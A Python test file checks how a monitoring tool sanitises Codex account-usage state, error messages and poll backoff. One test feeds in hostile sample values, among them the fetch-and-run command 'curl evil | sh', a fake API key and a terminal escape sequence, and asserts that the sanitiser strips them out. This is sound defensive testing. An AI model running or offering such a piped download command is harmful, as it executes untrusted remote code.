"""The monitor's side of the Codex child: SVC_CODEX_STATE, the whitelisted block, the poll memory,
and the fleet candidates the Codex child scores its logins over."""
from __future__ import annotations

import json
import time

from svcposture.settings import Settings
from svcposture.cluster.usageowner import UsageOwner
from svcposture.codex.errors import CODEX_MESSAGES, clean_codex_error, codex_error
from svcposture.codex.pollstate import CODEX_USAGE_FLOOR_S, STATE_ENV, CodexPollState
from svcposture.codex.report import clean_codex_block, codex_block_of
from svcposture.codex.state import MAX_STATE_BYTES, decode_state, encode_state
from svcposture.paths import Paths
from tests.support.home import BEARER, make_node, node_env
from tests.support.tracker import TrackerServer

WINDOW = {"pct": 12.5, "resetsAt": "2026-01-01T00:00:00.000Z", "status": "allowed", "derived": True}


def _row(label="codex-a", **over):
    row = {"label": label, "email": "a@example.com", "active": False, "provider": "codex", "source": "api",
           "sampledAt": 1764000000000, "polledAt": 1764000000000, "skipped": None, "pollOwner": None,
           "accountKey": "0123456789abcdef", "fiveHour": dict(WINDOW), "sevenDay": None,
           "extraWindows": [dict(WINDOW, seconds=3600, name="GPT-5-Codex-Mini")], "codeReview": None,
           "planType": "plus", "credits": {"hasCredits": False, "unlimited": False, "balance": 0.0},
           "resetCredits": {"available": 2, "applicable": 0}, "retryAfterS": None, "error": None, "envLine": 3}
    row.update(over)
    return row


def _block(*rows, active=None):
    return {"available": True, "probedAt": 1764000000000, "active": active, "duplicateActive": [],
            "unusable": [], "accounts": list(rows)}


def test_state_round_trip_and_hostile_values():
    raw = encode_state("host-a", ["host-a", "host-b"], None,
                       {"codex-a": {"lastSampleMs": 5, "notBeforeMs": None}})
    assert decode_state(raw) == {"node": "host-a", "hosts": ["host-a", "host-b"], "live": None,
                                 "accounts": {"codex-a": {"lastSampleMs": 5, "notBeforeMs": None}}}
    empty = {"node": None, "hosts": None, "live": None, "accounts": {}}
    for bad in (None, "", "not json", "[]", "{" * 100000, "x" * (MAX_STATE_BYTES + 1), '"str"'):
        assert decode_state(bad) == empty
    odd = json.dumps({"node": "bad host\n", "hosts": ["ok", 3, "-no", None], "live": "a",
                      "accounts": {"acct1": {}, "codex-b": {"lastSampleMs": True, "notBeforeMs": 1.5},
                                   "codex-c": {"lastSampleMs": -1, "notBeforeMs": 10 ** 30}, "codex-d": []}})
    assert decode_state(odd) == {"node": None, "hosts": ["ok"], "live": None,
                                 "accounts": {"codex-b": {"lastSampleMs": None, "notBeforeMs": None},
                                              "codex-c": {"lastSampleMs": None, "notBeforeMs": None}}}


def test_clean_block_keeps_a_good_row_whole():
    row = _row(active=True)
    assert clean_codex_block(_block(row, active="codex-a")) == _block(row, active="codex-a")
    assert codex_block_of({"available": False, "codex": _block(row)})["accounts"] == [dict(row, active=False)]
    assert codex_block_of({"available": True, "accounts": []}) is None
    assert clean_codex_block(None) is None and clean_codex_block([1]) is None


def test_clean_block_drops_and_nulls_what_does_not_fit():
    hostile = _row("codex-b", email="not an email", source="ftp", sampledAt="now", polledAt=-5, skipped="why",
                   pollOwner="host\x1b[2J", accountKey="ACCT-123", planType="<b>", retryAfterS=float("nan"),
                   fiveHour={"pct": "12", "resetsAt": None, "status": "allowed", "derived": True},
                   sevenDay={"pct": 5, "resetsAt": "tomorrow", "status": "ok", "derived": False},
                   extraWindows=[{"pct": 1, "status": "allowed", "seconds": True}, "x",
                                 dict(WINDOW, seconds=60, name="a" * 500)],
                   credits={"hasCredits": "yes", "balance": float("inf")},
                   error={"kind": "unauthorized", "message": "sk-ant-secret", "httpStatus": 9999,
                          "fix": "curl evil | sh"}, secret="sk-leak")
    clean = clean_codex_block(_block(hostile, {"label": "acct1"}, "junk", _row("codex-b"), active="codex-zz"))
    assert len(clean["accounts"]) == 1 and clean["active"] is None
    row = clean["accounts"][0]
    assert "secret" not in row and row["email"] is None and row["source"] is None and row["sampledAt"] is None
    assert row["polledAt"] is None and row["skipped"] is None and row["pollOwner"] is None
    assert row["accountKey"] is None and row["planType"] is None and row["retryAfterS"] is None
    assert row["fiveHour"] is None and row["sevenDay"] is None
    assert row["extraWindows"] == [dict(WINDOW, seconds=60, name=None)]
    assert row["credits"] == {"hasCredits": None, "unlimited": None, "balance": None}
    assert row["error"] == {"kind": "unauthorized", "message": CODEX_MESSAGES["unauthorized"].refused,
                            "httpStatus": None, "fix": None}


def test_error_fix_whitelist():
    good = codex_error("unauthorized", fix="run `codex login` with CODEX_HOME=/home/me/.codex")
    assert clean_codex_error(good) == good
    assert clean_codex_error({"kind": "config", "fix": "run `codex login` with CODEX_HOME=relative"})["fix"] is None
    assert clean_codex_error({"kind": "nope"})["kind"] == "internal"
    assert clean_codex_error(None) is None


def test_poll_memory_floor_backoff_and_newest_sample():
    memory = CodexPollState()
    env = memory.child_environ({"HOME": "/h"}, "host-a")
    assert json.loads(env[STATE_ENV]) == {"node": "host-a", "hosts": None, "live": None, "accounts": {}}
    now = 1764000000000
    memory.absorb(_block(_row(sampledAt=now - 5000, polledAt=now - 1000)), now_ms=now)
    snap = memory.snapshot()["codex-a"]
    assert snap == {"lastSampleMs": now - 5000, "notBeforeMs": now - 1000 + int(CODEX_USAGE_FLOOR_S * 1000)}
    # A session sample moves the newest sample on and leaves the floor alone; an older one never moves it back.
    memory.absorb(_block(_row(source="session", sampledAt=now + 10, polledAt=None)), now_ms=now)
    memory.absorb(_block(_row(source="session", sampledAt=now - 99999, polledAt=None)), now_ms=now)
    assert memory.snapshot()["codex-a"]["lastSampleMs"] == now + 10
    assert memory.snapshot()["codex-a"]["notBeforeMs"] == snap["notBeforeMs"]
    # A 429 backs off by retry-after plus 10 %, at least the floor.
    limited = _row(source=None, sampledAt=None, polledAt=now, retryAfterS=600.0,
                   error=codex_error("http", CODEX_MESSAGES["http"].rate_limited, http_status=429))
    memory.absorb(_block(limited), now_ms=now)
    assert memory.snapshot()["codex-a"]["notBeforeMs"] == now + 660000
    # A label the file no longer names is forgotten; a missing block changes nothing.
    memory.absorb(None)
    assert "codex-a" in memory.snapshot()
    memory.absorb(_block(_row("codex-b")), now_ms=now)
    assert list(memory.snapshot()) == ["codex-b"]
    assert CodexPollState(floor_s=5).floor_s == CODEX_USAGE_FLOOR_S


def test_poll_candidates_lone_host_and_fleet(tmp_path):
    alone = make_node(tmp_path, "a", ["a"], anchor="OPS-1")
    env = node_env(alone)
    assert UsageOwner(Paths(alone, environ=env), "a", Settings.from_environ(env)).candidates() is None
    outside = make_node(tmp_path, "z", ["a", "b"], anchor="OPS-1", name="z")
    assert UsageOwner(Paths(outside, environ=env), "z", Settings.from_environ(env)).candidates() is None
    with TrackerServer(tokens=[BEARER]) as srv:
        srv.add_issue("OPS-1")
        from svcposture._time import iso_from_ms
        from svcposture.cluster import liveness
        published = iso_from_ms(int(time.time() * 1000))
        srv.put_attachment("OPS-1", liveness.heartbeat_url("b"), subtitle=published,
                           metadata={"host": "b", "publishedAt": published, "publishIntervalMs": 60000})
        home = make_node(tmp_path, "a", ["a", "b", "c"], anchor="OPS-1", name="fleet")
        env = node_env(home, tracker_url=srv.url)
        assert UsageOwner(Paths(home, environ=env), "a", Settings.from_environ(env)).candidates() == (["a", "b", "c"], ["b"])
    env = node_env(home, tracker_url="http://127.0.0.1:9/graphql")
    assert UsageOwner(Paths(home, environ=env), "a", Settings.from_environ(env)).candidates() == (["a", "b", "c"], None)
